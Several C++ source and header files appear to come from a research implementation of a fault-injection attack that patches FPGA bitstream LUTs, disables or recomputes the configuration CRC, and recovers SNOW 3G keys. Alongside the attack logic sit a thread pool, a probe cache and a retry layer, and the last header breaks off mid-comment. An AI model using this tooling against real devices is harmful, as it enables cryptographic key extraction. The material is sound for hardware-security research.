            responses[k] = ClassifiedResponse{ResponseClass::kRejected, -1};
            continue;
          }
          const auto it = classes.find(*outs[k]);
          responses[k] =
              it != classes.end() ? it->second : ClassifiedResponse{ResponseClass::kOther, -1};
        }
        if (lost) responses.assign(round.size(), std::nullopt);
        return responses;
      });
  result.rounds = stats.rounds;
  result.log2_by_round = stats.log2_by_round;
  result.log2_hypotheses_final = hyp.log2_hypotheses();
  if (lost || stats.aborted) {
    result.failure = "device lost during hypothesis pruning";
    return finish(false);
  }
  note("pruned 2^" + std::to_string(static_cast<long>(initial)) + " initial -> 2^" +
       std::to_string(static_cast<long>(result.log2_hypotheses_final)) + " in " +
       std::to_string(stats.rounds) + " round(s), " + std::to_string(stats.probes) + " probes");

  for (unsigned i = 0; i < 32; ++i) {
    for (const size_t id : hyp.claimants(i)) {
      result.claimant_bytes[i].push_back(sites[id].byte_index);
    }
  }
  result.unique = hyp.unique();
  result.proven_ambiguous = hyp.proven_ambiguous();
  if (result.unique) {
    note("verdict: UNIQUE — all 32 sources identified adaptively");
  } else if (result.proven_ambiguous) {
    size_t eq_bits = 0;
    for (unsigned i = 0; i < 32; ++i) eq_bits += hyp.bit_proven_ambiguous(i) ? 1 : 0;
    note("verdict: PROVEN AMBIGUOUS — " + std::to_string(eq_bits) +
         " bit(s) have response-equalized claimant classes");
  } else {
    result.failure = "hypothesis loop exhausted informative probes without a verdict";
    return finish(false);
  }
  return finish(true);
}

}  // namespace sbm::attack
