// The attacker's probe layer, factored out of the Section VI pipeline so
// every oracle-guided engine (the key-recovery Attack, the countermeasure
// Cracker) shares one implementation of the logical-probe contract:
//
//   * cache lookup first — byte-identical patched bitstreams skip the
//     reconfiguration and never count toward the paper's cost metric;
//   * a confirmed read per cache miss — the configured ProbeController
//     (static r-vote or adaptive sequential test) decides when a probe's
//     outcome is settled, and the FIFO refill scheduler packs every
//     demanded physical read into full bit-sliced oracle chunks;
//   * poisoning guard — only confirmed values and persistent rejections
//     enter the cache;
//   * salvage — settled outcomes are recorded for checkpointing, so a
//     resumed run (or a fleet migration replay) never re-pays probes a
//     dead board already answered.
//
// Accounting is the contract of DESIGN.md §4f: oracle_runs counts logical
// probes only (noise- and controller-invariant by construction); retries,
// votes and fleet-internal replays are tracked separately.
#pragma once

#include <array>
#include <memory>
#include <optional>
#include <span>
#include <vector>

#include "attack/findlut.h"
#include "attack/oracle.h"
#include "runtime/probe_controller.h"
#include "runtime/retry.h"
#include "snow3g/snow3g.h"

namespace sbm::runtime {
class ProbeCache;
}

namespace sbm::attack {

/// How the attacker deals with the configuration CRC (Section V-B): either
/// disable the check once by zeroing the CRC write, or recompute the
/// correct CRC-32C for every modified bitstream.
enum class CrcHandling { kDisable, kRecompute };

/// One LUT-table rewrite: the init value to write at a byte position under
/// a sub-vector order hypothesis.
struct Patch {
  size_t byte_index = 0;
  std::array<u8, 4> order{};
  u64 init = 0;
};

/// A probe outcome that settled (confirmed value or persistent rejection)
/// during a run — the checkpoint-side mirror of the probe cache.  Keys are
/// runtime::make_probe_key digests of the patched bitstream, exactly as the
/// probe cache stores them.
struct SavedProbe {
  u64 key_hi = 0;
  u64 key_lo = 0;
  u64 words = 0;
  bool rejected = false;       // persistent rejection (no keystream)
  std::vector<u32> keystream;  // confirmed value when !rejected
  bool operator==(const SavedProbe&) const = default;
};

struct ProbeSessionConfig {
  size_t words = 16;  // keystream words per probe (the paper's w)
  CrcHandling crc = CrcHandling::kDisable;
  /// LUT sub-vector stride (FindLutOptions::offset_d) used by with_patches.
  size_t offset_d = bitstream::Layout::chunk_stride();
  /// Optional probe cache; hits never count toward oracle_runs.
  runtime::ProbeCache* cache = nullptr;
  /// Retry/vote budget per logical probe (single-shot by default).
  runtime::RetryPolicy retry;
  /// Confirmation controller (DESIGN.md §4j).
  runtime::ControllerKind controller = runtime::ControllerKind::kStatic;
  runtime::AdaptiveConfig adaptive;
};

/// Per-run probe engine.  Not thread-safe: probes are issued from the
/// driving thread only (batching fans out *inside* the oracle).
class ProbeSession {
 public:
  ProbeSession(Oracle& oracle, const ProbeSessionConfig& config);
  ~ProbeSession();

  /// One *logical* probe: cache lookup, then a confirmed read — the retry
  /// policy absorbs transient errors and agreement-votes noisy values.  The
  /// outcome is a value, a persistent (genuine) rejection, or a fatal error
  /// that also latches fatal() so the caller can stop.
  runtime::ProbeOutcome probe(const std::vector<u8>& bytes);
  /// Batch counterpart of probe(): element i is probe(batch[i]).  Probes
  /// with no result dependency between them go through the oracle's batch
  /// interface; the cache (when configured) is consulted per element and
  /// in-batch duplicates of a miss resolve as hits, exactly as the serial
  /// order would.
  std::vector<runtime::ProbeOutcome> probe_batch(std::span<const std::vector<u8>> batch);

  /// Applies LUT rewrites to a copy of `base`; in recompute mode the CRC is
  /// fixed up so every probe carries a valid check (Section V-B).
  std::vector<u8> with_patches(const std::vector<u8>& base,
                               const std::vector<Patch>& patches) const;

  /// Pre-seeds the cache with settled outcomes a prior partial run salvaged
  /// into its checkpoint, so they answer as hits instead of re-running
  /// physically.  No-op without a cache.  Returns the number seeded.
  size_t seed_resume(std::span<const SavedProbe> probes);

  /// First irrecoverable error seen (kNone while the device is healthy).
  runtime::ProbeError fatal() const { return fatal_; }
  bool device_lost() const { return fatal_ != runtime::ProbeError::kNone; }

  size_t words() const { return config_.words; }
  /// Logical probes (the paper's metric).
  size_t oracle_runs() const { return paper_runs_; }
  size_t cache_hits() const { return cache_hits_; }
  size_t probe_calls() const { return probe_calls_; }
  const runtime::RetryStats& stats() const { return stats_; }
  /// Settled, cacheable outcomes recorded for checkpoint persistence.
  const std::vector<SavedProbe>& salvaged() const { return salvage_; }

 private:
  std::vector<runtime::ProbeOutcome> confirm_batch(std::span<const std::vector<u8>> batch);
  runtime::ProbeOutcome finalize(runtime::ProbeOutcome outcome);
  void salvage(u64 key_hi, u64 key_lo, const runtime::ProbeOutcome& outcome);

  Oracle& oracle_;
  ProbeSessionConfig config_;
  /// Per-session confirmation controller: its state (including the adaptive
  /// noise estimate) is instance-local and mutated only on the calling
  /// thread, keeping controller decisions a pure function of the read
  /// sequence for any pool size.
  std::unique_ptr<runtime::ProbeController> controller_;
  size_t cache_hits_ = 0;
  size_t probe_calls_ = 0;
  size_t paper_runs_ = 0;
  runtime::RetryStats stats_;
  std::vector<SavedProbe> salvage_;
  runtime::ProbeError fatal_ = runtime::ProbeError::kNone;
};

/// Key-independent reference keystream simulated with the attacker's own
/// software model of SNOW 3G.  Key/IV values are irrelevant under the
/// zero-load fault: every such sequence is constant.
std::vector<u32> model_reference(snow3g::FaultConfig faults, size_t words);

/// Outcome of the beta-fault establishment stage (Section VI-D.2), shared
/// by the Attack pipeline's phase 2 and the countermeasure cracker.
struct BetaStage {
  /// Verified load-MUX rewrites: applying them makes the device reproduce
  /// the zero-load reference keystream.
  std::vector<Patch> patches;
  bool load_active_high = true;
  /// Sites whose beta match came from a MUX-with-feedback-fold shape: the
  /// s15 load MUXes that absorbed the top of the feedback tree, prime
  /// suspects for carrying the target XOR.
  std::vector<size_t> fold_sites;
  /// Load-MUX candidates considered (for logging).
  size_t candidates = 0;
};

/// Locates the LFSR-load MUX LUTs on `base` (full-table and half-table
/// matching, frame-geometry pruned), zeroes their gamma branches and
/// verifies the rewrite set against the software model's key-independent
/// zero-load reference, trying both load polarities with leave-one-out
/// refinement.  nullopt when beta could not be established or the device
/// was lost mid-stage (check session.device_lost()).
std::optional<BetaStage> establish_beta(ProbeSession& session, const std::vector<u8>& base,
                                        const FindLutOptions& find);

}  // namespace sbm::attack
