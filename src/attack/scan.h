// Candidate-family scanning: the step that produces the paper's Tables II
// and VI (number of target-LUT candidates per guessed Boolean function).
#pragma once

#include <span>
#include <string>
#include <vector>

#include "attack/findlut.h"
#include "logic/families.h"

namespace sbm::attack {

struct FamilyCount {
  logic::Candidate candidate;
  std::vector<LutMatch> matches;
  size_t count() const { return matches.size(); }
};

/// Runs FINDLUT for every candidate in the family in a single bitstream
/// pass: the whole family's pattern sets are compiled into one shared
/// first-chunk PatternIndex (attack/scan_engine.h, cached across calls and
/// campaign trials), so the cost is O(positions + bucket hits) instead of
/// O(candidates x positions x orders).  Results are bit-identical to
/// scan_family_legacy for any thread count.
std::vector<FamilyCount> scan_family(std::span<const u8> bitstream,
                                     const std::vector<logic::Candidate>& family,
                                     const FindLutOptions& options = {});

/// The pre-engine reference: one hash-probing pass per candidate
/// (find_lut_range), with the per-candidate pattern precompute hoisted out
/// of the scan loops and shared by all of that candidate's range shards.
/// Kept for differential tests and the engine-vs-legacy benchmark.
std::vector<FamilyCount> scan_family_legacy(std::span<const u8> bitstream,
                                            const std::vector<logic::Candidate>& family,
                                            const FindLutOptions& options = {});

/// The attack's working family: the paper's Table II candidates plus the
/// generalized gated-XOR shapes (every control polarity count for 2- and
/// 3-input XORs, with and without a linear pass-through input) that cover
/// implementations whose control encoding differs from the paper's victim.
const std::vector<logic::Candidate>& attack_family();

/// Candidates for the LFSR-load MUX LUTs (Section VI-D.2): f_MUX2, the
/// single 3-variable MUX and the MUX-with-feedback-fold shapes.
const std::vector<logic::Candidate>& mux_scan_family();

/// attack_family() filtered to one target path, in family order.  The
/// pipeline phases scan these subsets; exposing them as stable statics keeps
/// the compiled-index cache keyed on one canonical function list per phase.
const std::vector<logic::Candidate>& keystream_family();
const std::vector<logic::Candidate>& feedback_family();

/// Pre-compiles the shared pattern indexes of the three families every
/// pipeline phase scans (keystream, load-MUX, feedback), so campaign trials
/// fanning out across a pool find them cached instead of racing to compile
/// the same indexes.
void warm_scan_indexes(const FindLutOptions& options = {});

}  // namespace sbm::attack
