// Candidate-family scanning: the step that produces the paper's Tables II
// and VI (number of target-LUT candidates per guessed Boolean function).
#pragma once

#include <span>
#include <string>
#include <vector>

#include "attack/findlut.h"
#include "logic/families.h"

namespace sbm::attack {

struct FamilyCount {
  logic::Candidate candidate;
  std::vector<LutMatch> matches;
  size_t count() const { return matches.size(); }
};

/// Runs FINDLUT for every candidate in the family.
std::vector<FamilyCount> scan_family(std::span<const u8> bitstream,
                                     const std::vector<logic::Candidate>& family,
                                     const FindLutOptions& options = {});

/// The attack's working family: the paper's Table II candidates plus the
/// generalized gated-XOR shapes (every control polarity count for 2- and
/// 3-input XORs, with and without a linear pass-through input) that cover
/// implementations whose control encoding differs from the paper's victim.
const std::vector<logic::Candidate>& attack_family();

/// Candidates for the LFSR-load MUX LUTs (Section VI-D.2): f_MUX2, the
/// single 3-variable MUX and the MUX-with-feedback-fold shapes.
const std::vector<logic::Candidate>& mux_scan_family();

}  // namespace sbm::attack
