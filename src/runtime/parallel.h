// Deterministic data-parallel loops on top of ThreadPool.
//
// Determinism contract: for the same inputs, parallel_for / parallel_map /
// parallel_map_reduce produce results identical to the serial loop
// `for (i = 0; i < n; ++i)`, regardless of the pool's thread count (a null
// pool means "run serially").  parallel_map keeps results in index order;
// parallel_map_reduce folds them in index order after the barrier, so even
// non-commutative reductions are stable.  The only thing threads may change
// is wall-clock time.
#pragma once

#include <functional>
#include <optional>
#include <type_traits>
#include <utility>
#include <vector>

#include "runtime/thread_pool.h"

namespace sbm::runtime {

/// Number of contiguous index shards used for `n` items: enough to balance
/// load (4 per thread) without drowning in per-task overhead.
inline size_t shard_count(const ThreadPool* pool, size_t n, size_t min_grain = 1) {
  if (pool == nullptr || pool->concurrency() <= 1 || n <= 1) return 1;
  const size_t by_grain = min_grain == 0 ? n : (n + min_grain - 1) / min_grain;
  const size_t by_threads = size_t{pool->concurrency()} * 4;
  return std::max<size_t>(1, std::min({n, by_grain, by_threads}));
}

/// Number of fixed-size chunks covering [0, n): ceil(n / chunk).  Chunk c
/// spans [c * chunk, min(n, (c + 1) * chunk)) — the tail chunk may be
/// ragged.  Used to split batch work (e.g. 64-lane probe batches) so the
/// chunk boundaries — and therefore per-chunk results — are independent of
/// how many threads execute them.
inline size_t chunk_count(size_t n, size_t chunk) {
  return chunk == 0 ? 0 : (n + chunk - 1) / chunk;
}

/// Calls fn(i) for every i in [0, n).  fn must be safe to call concurrently
/// for distinct i.
template <typename Fn>
void parallel_for(ThreadPool* pool, size_t n, Fn&& fn, size_t min_grain = 1) {
  const size_t shards = shard_count(pool, n, min_grain);
  if (shards <= 1) {
    for (size_t i = 0; i < n; ++i) fn(i);
    return;
  }
  std::vector<std::function<void()>> tasks;
  tasks.reserve(shards);
  for (size_t s = 0; s < shards; ++s) {
    const size_t begin = n * s / shards;
    const size_t end = n * (s + 1) / shards;
    tasks.push_back([begin, end, &fn] {
      for (size_t i = begin; i < end; ++i) fn(i);
    });
  }
  pool->run_batch(std::move(tasks));
}

/// Maps fn over [0, n) and returns the results in index order.
template <typename Fn>
auto parallel_map(ThreadPool* pool, size_t n, Fn&& fn, size_t min_grain = 1)
    -> std::vector<std::decay_t<std::invoke_result_t<Fn&, size_t>>> {
  using R = std::decay_t<std::invoke_result_t<Fn&, size_t>>;
  if (shard_count(pool, n, min_grain) <= 1) {
    std::vector<R> out;
    out.reserve(n);
    for (size_t i = 0; i < n; ++i) out.push_back(fn(i));
    return out;
  }
  std::vector<std::optional<R>> slots(n);
  parallel_for(
      pool, n, [&](size_t i) { slots[i].emplace(fn(i)); }, min_grain);
  std::vector<R> out;
  out.reserve(n);
  for (auto& s : slots) out.push_back(std::move(*s));
  return out;
}

/// Ordered reduction: maps fn over [0, n), then folds the results into
/// `init` strictly in index order — acc = fold(acc, r_0), fold(acc, r_1)...
/// Identical to the serial loop even for non-commutative folds.
template <typename Acc, typename Fn, typename Fold>
Acc parallel_map_reduce(ThreadPool* pool, size_t n, Acc init, Fn&& fn, Fold&& fold,
                        size_t min_grain = 1) {
  auto mapped = parallel_map(pool, n, std::forward<Fn>(fn), min_grain);
  Acc acc = std::move(init);
  for (auto& r : mapped) acc = fold(std::move(acc), std::move(r));
  return acc;
}

}  // namespace sbm::runtime
