#include "runtime/probe_cache.h"

#include <bit>
#include <cstring>

#include "obs/metrics.h"

namespace sbm::runtime {

namespace {

// Process-wide counters across every cache instance (trials own private
// caches; the registry view aggregates them).  Per-instance hits_/misses_
// stay the deterministic per-attack record.
obs::Counter& hit_counter() {
  static obs::Counter& c = obs::MetricsRegistry::global().counter("probe_cache.hits");
  return c;
}

obs::Counter& miss_counter() {
  static obs::Counter& c = obs::MetricsRegistry::global().counter("probe_cache.misses");
  return c;
}

// Reads an 8-byte little-endian chunk.  One memcpy (a plain load on every
// target this builds for) instead of eight byte shifts — make_probe_key runs
// once per logical probe over ~100KB bitstreams, so this loop is hot.
u64 load_chunk(const u8* p) {
  if constexpr (std::endian::native == std::endian::little) {
    u64 chunk;
    std::memcpy(&chunk, p, 8);
    return chunk;
  } else {
    u64 chunk = 0;
    for (unsigned b = 0; b < 8; ++b) chunk |= u64{p[b]} << (8 * b);
    return chunk;
  }
}

}  // namespace

ProbeKey make_probe_key(std::span<const u8> bitstream, size_t words) {
  // Two independently-seeded 64-bit lanes over 8-byte chunks; 128 bits keep
  // the birthday bound far beyond any campaign's probe count.
  u64 h0 = 0x6a09e667f3bcc908ull ^ mix64(bitstream.size());
  u64 h1 = 0xbb67ae8584caa73bull ^ mix64(words);
  size_t i = 0;
  for (; i + 8 <= bitstream.size(); i += 8) {
    const u64 chunk = load_chunk(bitstream.data() + i);
    h0 = mix64(h0 ^ chunk);
    h1 = mix64(h1 + chunk * 0x2545f4914f6cdd1dull);
  }
  u64 tail = 0;
  for (unsigned b = 0; i < bitstream.size(); ++i, ++b) tail |= u64{bitstream[i]} << (8 * b);
  h0 = mix64(h0 ^ tail);
  h1 = mix64(h1 + tail * 0x2545f4914f6cdd1dull);
  return {h0, h1, words};
}

ProbeCache::ProbeCache(size_t shards) : shards_(shards == 0 ? 1 : shards) {}

std::optional<ProbeResult> ProbeCache::lookup(const ProbeKey& key) {
  Shard& shard = shard_of(key);
  std::lock_guard<std::mutex> lock(shard.mutex);
  const ProbeResult* slot = shard.map.find(key);
  if (slot == nullptr) {
    misses_.fetch_add(1, std::memory_order_relaxed);
    miss_counter().add();
    return std::nullopt;
  }
  hits_.fetch_add(1, std::memory_order_relaxed);
  hit_counter().add();
  return *slot;
}

void ProbeCache::store(const ProbeKey& key, ProbeResult result) {
  static obs::Counter& stores = obs::MetricsRegistry::global().counter("probe_cache.stores");
  stores.add();
  Shard& shard = shard_of(key);
  std::lock_guard<std::mutex> lock(shard.mutex);
  shard.map.try_emplace(key, std::move(result));
}

size_t ProbeCache::entries() const {
  size_t total = 0;
  for (const Shard& shard : shards_) {
    std::lock_guard<std::mutex> lock(shard.mutex);
    total += shard.map.size();
  }
  return total;
}

void ProbeCache::clear() {
  for (Shard& shard : shards_) {
    std::lock_guard<std::mutex> lock(shard.mutex);
    shard.map.clear();
  }
  hits_.store(0, std::memory_order_relaxed);
  misses_.store(0, std::memory_order_relaxed);
}

}  // namespace sbm::runtime
