#include "runtime/thread_pool.h"

#include "obs/metrics.h"
#include "obs/trace.h"

namespace sbm::runtime {

namespace {

// Scheduling observability (DESIGN.md §4g): batch submissions carry the
// instantaneous queue depth; every task claim is tagged steal (a worker
// pulled it off the queue) or help (the submitting thread ran it while
// waiting on its own batch).
obs::Counter& steal_counter() {
  static obs::Counter& c = obs::MetricsRegistry::global().counter("pool.steal_runs");
  return c;
}

obs::Counter& help_counter() {
  static obs::Counter& c = obs::MetricsRegistry::global().counter("pool.help_runs");
  return c;
}

}  // namespace

ThreadPool::ThreadPool(unsigned threads)
    : concurrency_(threads != 0 ? threads : std::max(1u, std::thread::hardware_concurrency())) {
  workers_.reserve(concurrency_ - 1);
  for (unsigned i = 1; i < concurrency_; ++i) {
    workers_.emplace_back([this] { worker_loop(); });
  }
}

ThreadPool::~ThreadPool() {
  {
    std::lock_guard<std::mutex> lock(mutex_);
    stopping_ = true;
  }
  work_available_.notify_all();
  for (std::thread& w : workers_) w.join();
}

void ThreadPool::run_one(Batch& batch, size_t index, std::unique_lock<std::mutex>& lock) {
  lock.unlock();
  try {
    batch.tasks[index]();
  } catch (...) {
    batch.errors[index] = std::current_exception();
  }
  batch.tasks[index] = nullptr;  // release captures eagerly
  lock.lock();
  if (++batch.done == batch.tasks.size()) batch.completed.notify_all();
}

void ThreadPool::worker_loop() {
  std::unique_lock<std::mutex> lock(mutex_);
  for (;;) {
    work_available_.wait(lock, [this] { return stopping_ || !queue_.empty(); });
    if (stopping_) return;  // batches in flight are drained by their callers
    const std::shared_ptr<Batch> batch = queue_.front();
    if (batch->next >= batch->tasks.size()) {
      queue_.pop_front();  // fully claimed; stragglers finish in their claimers
      continue;
    }
    steal_counter().add();
    if (obs::trace_enabled()) {
      obs::Tracer::global().instant("pool", "steal", {{"task", batch->next}});
    }
    run_one(*batch, batch->next++, lock);
  }
}

void ThreadPool::run_batch(std::vector<std::function<void()>> tasks) {
  if (tasks.empty()) return;
  static obs::Counter& batches = obs::MetricsRegistry::global().counter("pool.batches");
  static obs::Histogram& batch_tasks =
      obs::MetricsRegistry::global().histogram("pool.batch_tasks");
  batches.add();
  batch_tasks.observe(tasks.size());
  const auto batch = std::make_shared<Batch>(std::move(tasks));

  std::unique_lock<std::mutex> lock(mutex_);
  if (concurrency_ > 1) {
    queue_.push_back(batch);
    work_available_.notify_all();
  }
  if (obs::trace_enabled()) {
    obs::Tracer::global().instant(
        "pool", "submit", {{"tasks", batch->tasks.size()}, {"queue_depth", queue_.size()}});
  }
  // The submitting thread claims tasks too; with concurrency 1 (or no idle
  // worker) it simply runs the whole batch serially, in index order.
  while (batch->next < batch->tasks.size()) {
    help_counter().add();
    if (obs::trace_enabled()) {
      obs::Tracer::global().instant("pool", "help", {{"task", batch->next}});
    }
    run_one(*batch, batch->next++, lock);
  }
  batch->completed.wait(lock, [&] { return batch->done == batch->tasks.size(); });
  for (auto it = queue_.begin(); it != queue_.end(); ++it) {
    if (*it == batch) {
      queue_.erase(it);
      break;
    }
  }
  lock.unlock();

  for (const std::exception_ptr& e : batch->errors) {
    if (e) std::rethrow_exception(e);
  }
}

ThreadPool& ThreadPool::global() {
  static ThreadPool pool(0);
  return pool;
}

}  // namespace sbm::runtime
