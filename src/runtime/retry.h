// Status-or-value probe results and bounded-attempt retry policy.
//
// Real bitstream-modification campaigns run against flaky hardware:
// reconfigurations glitch, keystream captures pick up bit errors, reads get
// truncated, boards time out and occasionally die for good (Puschner et al.,
// "Patching FPGAs"; Ender et al., "The Unpatchable Silicon" both report
// these as first-order obstacles).  The oracle therefore answers every probe
// with a ProbeOutcome — either the keystream words or a ProbeError — and the
// attack layer wraps each *logical* probe in a RetryPolicy: transient errors
// are retried with a bounded attempt budget, noisy value reads are confirmed
// by requiring `confirm` bit-identical repetitions (r-repetition agreement
// voting: two independently corrupted captures essentially never coincide,
// so an agreed value is the true one), and anything that cannot be confirmed
// escalates to kDead so the pipeline can stop with a checkpoint instead of
// acting on a corrupt read.
//
// Accounting contract: the paper's cost metric (AttackResult::oracle_runs)
// counts logical probes only.  Extra physical runs spent on retries and
// votes are tracked separately in RetryStats, so the clean-run metric is
// unchanged by noise — see DESIGN.md §4f.
#pragma once

#include <optional>
#include <utility>
#include <vector>

#include "common/bits.h"

namespace sbm::runtime {

/// Why a probe failed.
enum class ProbeError : u8 {
  kNone = 0,  // the probe succeeded (ProbeOutcome carries the keystream)
  /// The device refused the configuration.  Deterministic on a sound board
  /// (bad CRC, malformed packets) but also the observable of a transient
  /// configuration glitch — the retry layer disambiguates by re-trying:
  /// only a rejection that persists through every attempt is genuine.
  kRejected,
  /// The read came back detectably damaged (truncated capture), or a value
  /// could not be confirmed within the vote budget.
  kCorrupt,
  /// The device did not answer in time.  Transient unless it persists.
  kTimeout,
  /// The device is gone: timeouts/corruption exhausted the retry budget.
  /// Never retried; the pipeline phase containing it aborts with a partial
  /// result and a checkpoint.
  kDead,
};

const char* probe_error_name(ProbeError e);

/// Status-or-value result of one oracle probe.  Mirrors the optional-like
/// API the pipeline historically used (operator bool / * / ->), with the
/// error taxonomy replacing the old undifferentiated nullopt.
class ProbeOutcome {
 public:
  ProbeOutcome() = default;  // rejected, like the old empty optional
  ProbeOutcome(std::vector<u32> keystream)
      : keystream_(std::move(keystream)), error_(ProbeError::kNone) {}
  ProbeOutcome(ProbeError error) : error_(error) {}
  ProbeOutcome(std::nullopt_t) {}
  ProbeOutcome(std::optional<std::vector<u32>> result) {
    if (result) {
      keystream_ = std::move(*result);
      error_ = ProbeError::kNone;
    }
  }

  bool ok() const { return error_ == ProbeError::kNone; }
  bool has_value() const { return ok(); }
  explicit operator bool() const { return ok(); }

  const std::vector<u32>& value() const { return keystream_; }
  const std::vector<u32>& operator*() const { return keystream_; }
  const std::vector<u32>* operator->() const { return &keystream_; }

  ProbeError error() const { return error_; }
  /// Worth another attempt: the fault is in the interaction, not the probe.
  bool transient() const {
    return error_ == ProbeError::kCorrupt || error_ == ProbeError::kTimeout;
  }

  /// Collapses to the legacy representation (rejection and value only); the
  /// probe cache stores this, and only confirmed outcomes may reach it.
  std::optional<std::vector<u32>> to_optional() const {
    if (!ok()) return std::nullopt;
    return keystream_;
  }

  friend bool operator==(const ProbeOutcome&, const ProbeOutcome&) = default;

 private:
  std::vector<u32> keystream_;
  ProbeError error_ = ProbeError::kRejected;
};

/// Bounded retry/vote budget for one logical probe.  The default policy is
/// single-shot: exactly one physical run per probe, no confirmation — the
/// noise-free fast path with zero overhead and byte-identical behavior to
/// the pre-fault-model pipeline.
struct RetryPolicy {
  /// Physical attempts absorbed per transient error (rejection, timeout,
  /// truncation) before the probe gives up.  1 = no retries.
  unsigned max_attempts = 1;
  /// Bit-identical value reads required to accept a keystream.  1 = accept
  /// the first read (noise-free deployment); r >= 2 enables agreement
  /// voting against capture bit-flips.
  unsigned confirm = 1;
  /// Value reads spent before declaring the oracle unconfirmable (kCorrupt
  /// -> escalated to kDead).  Only meaningful when confirm > 1.
  unsigned max_reads = 1;

  bool single_shot() const { return max_attempts <= 1 && confirm <= 1; }

  static RetryPolicy none() { return {}; }
  /// Voting policy for noisy hardware: confirm a value with `r` identical
  /// reads, absorb transients, and keep reading long enough that a sound
  /// (if noisy) board is never misdeclared dead.
  static RetryPolicy voting(unsigned r = 3) {
    RetryPolicy p;
    p.max_attempts = 6;
    p.confirm = r < 1 ? 1 : r;
    p.max_reads = 8 * p.confirm;
    return p;
  }

  friend bool operator==(const RetryPolicy&, const RetryPolicy&) = default;
};

/// Physical-layer overhead accounting, kept apart from the paper's
/// oracle_runs metric: oracle_runs + retry_runs + vote_runs = physical runs.
struct RetryStats {
  size_t retry_runs = 0;    // re-issues after a transient error
  size_t vote_runs = 0;     // value reads beyond the first, for confirmation
  size_t corruptions = 0;   // detectably damaged or disagreeing reads seen
  size_t transient_rejections = 0;  // rejections that vanished on retry

  RetryStats& operator+=(const RetryStats& o) {
    retry_runs += o.retry_runs;
    vote_runs += o.vote_runs;
    corruptions += o.corruptions;
    transient_rejections += o.transient_rejections;
    return *this;
  }
};

inline const char* probe_error_name(ProbeError e) {
  switch (e) {
    case ProbeError::kNone: return "ok";
    case ProbeError::kRejected: return "rejected";
    case ProbeError::kCorrupt: return "corrupt";
    case ProbeError::kTimeout: return "timeout";
    case ProbeError::kDead: return "dead";
  }
  return "?";
}

}  // namespace sbm::runtime
