// Sharded cache for fault-injection probes.
//
// The attack pipeline's cost unit is one oracle run = one simulated device
// reconfiguration.  Several pipeline stages re-derive byte-identical patched
// bitstreams (e.g. a half-table rewrite that equals the whole-table rewrite,
// or a replayed verification probe); caching the keystream per *patched
// bitstream content* skips the reconfiguration while keeping the accounting
// honest: hits and true oracle runs are counted separately, so the paper's
// cost metric (board reflashes) is still reported exactly.
//
// Keys are a 128-bit content hash of (bitstream bytes, word count).  The
// hash is not cryptographic — it only has to make accidental collisions
// between a few thousand probes of the same campaign vanishingly unlikely.
// The map is sharded by key so concurrent trials sharing a cache do not
// serialize on one mutex.
#pragma once

#include <array>
#include <atomic>
#include <cstddef>
#include <mutex>
#include <optional>
#include <span>
#include <vector>

#include "common/bits.h"
#include "common/flat_map.h"

namespace sbm::runtime {

struct ProbeKey {
  u64 hi = 0;
  u64 lo = 0;
  u64 words = 0;
  bool operator==(const ProbeKey&) const = default;
};

/// 128-bit content hash of the probe (bitstream bytes + keystream length).
ProbeKey make_probe_key(std::span<const u8> bitstream, size_t words);

/// A probe's outcome: nullopt when the device rejected the bitstream, else
/// the keystream words.  Rejections are cached too — re-proving that a bad
/// bitstream is bad costs a reconfiguration just the same.
using ProbeResult = std::optional<std::vector<u32>>;

class ProbeCache {
 public:
  explicit ProbeCache(size_t shards = 16);

  /// Returns the cached outcome, or nullopt on miss.  Counts one hit or one
  /// miss.
  std::optional<ProbeResult> lookup(const ProbeKey& key);

  /// Stores the outcome of a true probe.  First writer wins; a concurrent
  /// duplicate store of the same key is dropped (the outcomes are equal by
  /// construction — the key is the full probe content).
  void store(const ProbeKey& key, ProbeResult result);

  size_t hits() const { return hits_.load(std::memory_order_relaxed); }
  size_t misses() const { return misses_.load(std::memory_order_relaxed); }
  size_t entries() const;

  void clear();

 public:
  /// Hash over the already well-mixed 128-bit content key.  Public so the
  /// accounting-parity test can drive a reference map with the same hash.
  struct KeyHash {
    size_t operator()(const ProbeKey& k) const {
      return static_cast<size_t>(k.hi ^ (k.lo * 0x9e3779b97f4a7c15ull) ^ k.words);
    }
  };

 private:
  // Open-addressing shard (common/flat_map.h): probe keys are uniformly
  // mixed content hashes, so linear probing stays short, and the flat
  // layout turns each lookup into one predictable memory stream instead of
  // a node-pointer chase.
  struct Shard {
    mutable std::mutex mutex;
    FlatMap<ProbeKey, ProbeResult, KeyHash> map;
  };

  Shard& shard_of(const ProbeKey& key) { return shards_[key.lo % shards_.size()]; }

  std::vector<Shard> shards_;
  std::atomic<size_t> hits_{0};
  std::atomic<size_t> misses_{0};
};

}  // namespace sbm::runtime
