// Pluggable per-probe confirmation controllers (DESIGN.md §4j).
//
// The attack layer wraps every *logical* probe in a sequential decision
// procedure: keep issuing physical reads until the probe's outcome is
// settled — a confirmed keystream value, a genuine (persistent) rejection,
// an unconfirmable read (kCorrupt) or device death.  A ProbeController owns
// that decision; the scheduler in Attack::confirm_batch owns *when* the
// demanded reads actually run (it packs them into the oracle's bit-sliced
// batch lanes, refilling partially-settled chunks instead of re-running
// stragglers one by one).
//
// Two implementations:
//   * StaticVotingController — the RetryPolicy r-repetition vote, unchanged
//     from the original inline implementation: accept after `confirm`
//     bit-identical reads, demand one read at a time.  Kept as the
//     reference; the adaptive controller is differential-tested against it.
//   * AdaptiveController — a sequential probability ratio test: accept a
//     value with k agreeing reads as soon as the posterior odds that all k
//     are corrupted-and-colliding drop below a configured error bound,
//     with the per-read corruption rate estimated online from the live
//     outcome stream (optionally seeded from a known noise profile).  On a
//     mildly noisy board this settles most probes with 2 reads where the
//     static vote always pays for 3, cutting physical runs ~2x.
//
// Determinism contract: controller decisions are a pure function of the
// absorbed read sequence (absorb order), never of wall clock or thread
// count.  The scheduler absorbs on its own calling thread in issue order,
// so the full decision ledger replays exactly for the same (seed,
// run-index) fault stream.
#pragma once

#include <memory>
#include <optional>
#include <string_view>
#include <vector>

#include "common/bits.h"
#include "runtime/retry.h"

namespace sbm::runtime {

/// Which confirmation controller the pipeline runs.
enum class ControllerKind : u8 { kStatic = 0, kAdaptive = 1 };

const char* controller_kind_name(ControllerKind kind);
/// "static" | "adaptive" -> kind; nullopt on anything else.
std::optional<ControllerKind> parse_controller_kind(std::string_view name);

/// Tuning for the adaptive sequential test.  The defaults are safe when
/// nothing is known about the board: the corruption-rate estimate starts at
/// the uninformative 0.5 (demanding 3-deep agreement) and relaxes toward
/// 2-deep agreement as clean evidence accumulates.  When the noise profile
/// is known, faultsim::adaptive_config_for() seeds the prior so the cheap
